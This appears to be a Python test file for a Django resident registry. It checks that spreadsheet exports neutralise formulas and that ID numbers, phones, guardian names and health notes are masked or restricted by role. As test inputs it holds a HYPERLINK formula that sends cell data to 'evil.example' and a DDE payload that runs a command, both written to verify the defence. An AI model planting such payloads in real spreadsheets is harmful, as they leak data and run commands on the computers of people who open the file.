"""What must not leak from the registry: values turned into formulas in a spreadsheet, whole ID
numbers and phones in stored messages and logs, an import's report or raw rows to people who
did not upload it, whole numbers confirmed by search, a consenting guardian's name."""

from __future__ import annotations

import datetime
import io
from pathlib import Path

from openpyxl import load_workbook

from tests.conftest import login
from tests.residents.factories_residents import (
    HouseholdFactory,
    ResidentFactory,
    id_for,
    post_canvass,
)
from tests.spreadsheets import write_csv
from wushe.core.models import ActionLog, Job

ID_A = id_for(datetime.date(1941, 5, 6), 123)
# The same number with a wrong check digit: rejected, but still a person's whole ID number.
BAD_ID = ID_A[:-1] + ("1" if ID_A[-1] == "0" else "0")
BAD_PHONE = "1381234567"  # ten digits
FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"点击")'


def _upload(client, street, tmp_path, rows):
    path = write_csv(tmp_path / "sheet.csv", rows)
    response = post_canvass(client, path, street.community_a)
    assert response.status_code == 302
    return Job.objects.latest("pk")


def _cells(content):
    return [c for row in load_workbook(io.BytesIO(content)).active.iter_rows() for c in row]


def test_error_workbook_keeps_a_formula_as_text(client, street, people, tmp_path):
    login(client, people.worker_a)
    job = _upload(client, street, tmp_path, [["姓名", "身份证号", "楼号"], [FORMULA, BAD_ID, "1"]])
    response = client.get(f"/residents/import/{job.pk}/rejected.xlsx")
    assert response.status_code == 200
    cells = _cells(response.content)
    assert [c for c in cells if c.data_type == "f"] == []
    assert FORMULA in [c.value for c in cells]


def test_export_has_no_formula_cells(client, street, people):
    household = HouseholdFactory(building=street.building_a1, unit="=1+1", room="@SUM(A1)")
    ResidentFactory(
        name="=cmd|' /C calc'!A0",
        area=street.building_a1,
        household=household,
        emergency_contact="+1+1",
        guardian="-2+3",
    )
    login(client, people.worker_a)
    response = client.get("/residents/export.xlsx")
    assert response.status_code == 200
    cells = _cells(response.content)
    assert [c.value for c in cells if c.data_type == "f"] == []
    assert "=" + "*" * (len("=cmd|' /C calc'!A0") - 1) in [c.value for c in cells]


def test_import_messages_name_numbers_masked(client, street, people, tmp_path):
    login(client, people.worker_a)
    job = _upload(
        client,
        street,
        tmp_path,
        [["姓名", "身份证号", "联系电话"], ["张三", BAD_ID, ""], ["李四", "", BAD_PHONE]],
    )
    reasons = " ".join(r["reason"] for r in job.result["rejected"])
    assert len(job.result["rejected"]) == 2
    assert BAD_ID not in reasons and BAD_ID[:-1] not in reasons and BAD_PHONE not in reasons
    assert BAD_ID[:4] + "*" * 10 + BAD_ID[-4:] in reasons
    page = client.get(f"/residents/import/{job.pk}/").content.decode()
    assert BAD_ID not in page and BAD_PHONE not in page
    confirmed = client.post(f"/residents/import/{job.pk}/confirm/")
    assert confirmed.status_code == 302
    stored = repr(list(Job.objects.values_list("result", flat=True)))
    stored += repr(list(ActionLog.objects.values_list("data", flat=True)))
    assert BAD_ID not in stored and BAD_PHONE not in stored


def test_job_page_of_an_import_needs_the_import_permission(client, street, people, tmp_path):
    login(client, people.worker_a)
    job = _upload(client, street, tmp_path, [["姓名", "身份证号"], ["张三", BAD_ID]])
    for who in ("district", "social", "org"):
        login(client, getattr(people, who))
        response = client.get(f"/jobs/{job.pk}/", follow=True)
        assert response.status_code in (403, 404), who
        assert BAD_ID[-4:] not in response.content.decode()
    login(client, people.worker_a)
    response = client.get(f"/jobs/{job.pk}/")
    assert response.status_code == 302 and response["Location"] == f"/residents/import/{job.pk}/"


def test_a_failed_preview_keeps_no_copy_of_the_sheet(client, street, people, tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path / "media"
    login(client, people.worker_a)
    job = _upload(client, street, tmp_path, [["没有表头"], ["张三", BAD_ID, "13812345678"]])
    assert job.status == Job.Status.FAILED
    assert not job.upload
    assert [p for p in Path(settings.MEDIA_ROOT).rglob("*") if p.is_file()] == []
    assert client.post(f"/residents/import/{job.pk}/confirm/").status_code == 302  # "failed"
    assert Job.objects.count() == 1  # nothing to apply


def test_error_workbook_only_for_who_uploaded(client, street, people, tmp_path):
    login(client, people.worker_a)
    job = _upload(client, street, tmp_path, [["姓名", "身份证号"], ["张三", BAD_ID]])
    assert client.get(f"/residents/import/{job.pk}/rejected.xlsx").status_code == 200
    for who in ("command", "scoped_admin", "worker_b"):
        login(client, getattr(people, who))
        assert client.get(f"/residents/import/{job.pk}/rejected.xlsx").status_code == 404, who


def _count(api, q):
    return api.get("/api/v1/residents/", {"q": q}).json()["count"]


def test_whole_number_search_only_for_who_may_see_it(api, street, people):
    resident = ResidentFactory(area=street.building_a1, id_number=ID_A, phone="+8613812345678")
    login(api, people.district)  # sees 138****5678 and 3101**********xxxx, may not reveal
    assert _count(api, "5678") == 1 and _count(api, ID_A[-4:]) == 1
    assert _count(api, "13812345678") == 0
    assert _count(api, resident.id_number) == 0
    login(api, people.command)
    assert _count(api, "13812345678") == 1 and _count(api, resident.id_number) == 1


def test_export_log_keeps_no_search_words(client, street, people):
    ResidentFactory(area=street.building_a1, phone="+8613812345678")
    login(client, people.worker_a)
    assert client.get("/residents/export.xlsx", {"q": "13812345678"}).status_code == 200
    entry = ActionLog.objects.get(action="residents.export.downloaded")
    assert "13812345678" not in repr(entry.data)
    assert entry.data["filters"] == {"search": True} and entry.data["rows"] == 1


def test_consenting_guardian_masked_like_a_name(api, client, street, people):
    child = ResidentFactory(
        area=street.building_a1,
        legal_basis="consent",
        consent_purpose="社区服务",
        consent_guardian="赵监护",
    )
    login(api, people.district)
    assert api.get(f"/api/v1/residents/{child.pk}/").json()["consent_guardian"] == "赵**"
    login(client, people.district)
    page = client.get(f"/residents/{child.pk}/").content.decode()
    assert "赵监护" not in page and "赵**" in page
    login(api, people.worker_a)
    assert api.get(f"/api/v1/residents/{child.pk}/").json()["consent_guardian"] == "赵监护"


def test_tag_details_are_health_notes(api, client, street, people):
    from wushe.residents.models import ResidentTag, Tag

    household = HouseholdFactory(building=street.building_a1)
    resident = ResidentFactory(area=street.building_a1, household=household)
    ResidentTag.objects.create(
        resident=resident,
        tag=Tag.objects.get(code="critical_treatment"),
        treatment="dialysis",
        schedule="周二四六 区中心医院",
        note="家属陪同",
    )
    login(api, people.district)  # health notes hidden, no reveal
    for body in (
        api.get(f"/api/v1/residents/{resident.pk}/").json(),
        api.get("/api/v1/residents/").json(),
    ):
        assert "区中心医院" not in str(body) and "家属陪同" not in str(body)
        assert "critical_treatment" in str(body)
    login(client, people.district)
    for url in (
        "/residents/",
        f"/residents/{resident.pk}/",
        f"/residents/households/{household.pk}/",
    ):
        page = client.get(url).content.decode()
        assert "区中心医院" not in page, url
    login(api, people.worker_a)
    tags = api.get(f"/api/v1/residents/{resident.pk}/").json()["tags"]
    assert {"schedule": "周二四六 区中心医院", "note": "家属陪同"}.items() <= tags[-1].items()
